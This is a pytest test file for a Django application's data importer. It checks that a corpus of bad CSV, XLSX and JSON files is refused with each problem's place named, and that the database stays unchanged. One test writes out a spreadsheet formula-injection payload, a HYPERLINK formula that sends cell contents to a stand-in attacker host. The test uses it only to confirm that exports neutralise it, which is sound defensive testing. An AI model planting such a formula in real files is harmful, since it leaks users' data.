"""The corpus of bad files (issue 7): each one is refused with its place named, and the database is unchanged.

The files and MANIFEST.json are made by make_corpus.py. For each file the importer must raise ImportRefused
(never another exception), one of its problems must name the manifest's row and column (None when the problem
is the whole file) and contain its fragment. Per file, a cheap check (the rows of every table counted) runs
after the refusal; one test imports the whole corpus between two full dumps of the database (SQLite's
iterdump, or an md5 of every table's rows on PostgreSQL) and compares them byte for byte.

What the importer does with formula-like cells (=, +, -, @ at the start), decided per column:
- in typed columns (dates, numbers, choices, parties, references) the text is refused by the column's rule,
  with the formula quoted in the message (the corpus's `formula injection` files);
- an XLSX formula is never evaluated: the cell's cached value is read, and a formula without one is empty;
- in free text (names, titles, references, evidence) the text is kept as written: it is data, shown escaped
  in pages, and every export neutralises it with a leading apostrophe (test_formula_text_is_stored_as_text
  below; tests/interop/test_export.py::test_csv_neutralises_formulas and
  ::test_xlsx_neutralises_formulas_but_not_numbers_or_dates). An apostrophe an export added is taken off again
  on import, so a round trip leaves the text as it was.

A header-only file is not a bad file: it imports 0 records (test_header_only_file_imports_nothing).
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from openpyxl import load_workbook

from accord.directory.models import Organisation
from accord.interop.report import ImportRefused
from accord.interop.services import export_stream, import_file

CORPUS = Path(__file__).resolve().parent / "corpus"
MANIFEST: list[dict[str, Any]] = json.loads((CORPUS / "MANIFEST.json").read_text("utf-8"))


def _tables() -> list[str]:
    return sorted(connection.introspection.table_names(include_views=False))


def full_dump() -> str:
    """The whole database as text: SQLite's own dump, or on PostgreSQL an md5 of every table's rows."""
    if connection.vendor == "sqlite":
        connection.ensure_connection()
        return "\n".join(connection.connection.iterdump())
    lines = []
    with connection.cursor() as cursor:
        for table in _tables():
            quoted = connection.ops.quote_name(table)
            cursor.execute(f"SELECT count(*), md5(string_agg(t::text, '|' ORDER BY t::text)) FROM {quoted} t")
            lines.append(f"{table} {cursor.fetchone()}")
    return "\n".join(lines)


def row_counts() -> dict[str, int]:
    with connection.cursor() as cursor:
        counts = {}
        for table in _tables():
            cursor.execute(f"SELECT count(*) FROM {connection.ops.quote_name(table)}")
            counts[table] = cursor.fetchone()[0]
        return counts


def refusal(entry: dict[str, Any]) -> ImportRefused:
    data = (CORPUS / entry["file"]).read_bytes()
    with pytest.raises(ImportRefused) as caught:
        import_file(entry["kind"], data, entry["file"])
    return caught.value


def test_manifest_lists_every_file_and_covers_the_issue() -> None:
    assert {e["file"] for e in MANIFEST} == {p.name for p in CORPUS.iterdir()} - {"MANIFEST.json"}
    assert len(MANIFEST) >= 100
    assert {e["kind"] for e in MANIFEST} == {
        "parties", "organisations", "people", "agreements", "projects", "participations", "plan-items",
        "progress-reports", "exchanges",
    }  # fmt: skip
    assert {Path(e["file"]).suffix for e in MANIFEST} >= {".csv", ".xlsx", ".json"}
    categories = {e["category"] for e in MANIFEST}
    assert {"wrong or mixed encoding", "spreadsheet row numbers", "parties", "unknown reference"} <= categories
    assert sum(p.stat().st_size for p in CORPUS.iterdir()) < 3 * 1024 * 1024


@pytest.fixture
def counts_unchanged(db: None) -> Callable[[], None]:
    before = row_counts()
    return lambda: _assert_equal(row_counts(), before)


def _assert_equal(after: dict[str, int], before: dict[str, int]) -> None:
    assert {t: n for t, n in after.items() if before.get(t) != n} == {}


@pytest.mark.parametrize("entry", MANIFEST, ids=[e["file"] for e in MANIFEST])
def test_bad_file_is_refused_with_its_place(seed: Any, entry: dict[str, Any], counts_unchanged: Any) -> None:
    error = refusal(entry)
    places = [(p.row, p.column, p.reason) for p in error.problems]
    assert any(
        row == entry["row"] and column == entry["column"] and entry["fragment"] in reason
        for row, column, reason in places
    ), f"{entry['wrong']}: expected row {entry['row']}, column {entry['column']}, “{entry['fragment']}”; got {places}"
    assert all(p.file == entry["file"] for p in error.problems)
    assert entry["fragment"] and all(p.reason.strip() for p in error.problems)
    counts_unchanged()


def test_database_is_byte_for_byte_unchanged_by_the_whole_corpus(seed: Any) -> None:
    before = full_dump()
    for entry in MANIFEST:
        refusal(entry)
    after = full_dump()
    assert after == before


def test_header_only_file_imports_nothing(seed: Any) -> None:
    before = row_counts()
    report = import_file("organisations", b"name[en],party\r\n", "o.csv")
    assert report.records == 0
    assert row_counts() == before


def test_formula_text_is_stored_as_text_and_neutralised_on_export(seed: Any) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    cell = '"' + formula.replace('"', '""') + '"'
    import_file("organisations", f"external_id,name[en],party\r\nf:1,{cell},CN\r\n".encode(), "o.csv")
    assert Organisation.objects.get(external_id="f:1").name == {"en": formula}
    exported = b"".join(export_stream("organisations", "csv")).decode("utf-8-sig")
    assert "'=HYPERLINK" in exported
    sheet = load_workbook(io.BytesIO(b"".join(export_stream("organisations", "xlsx")))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
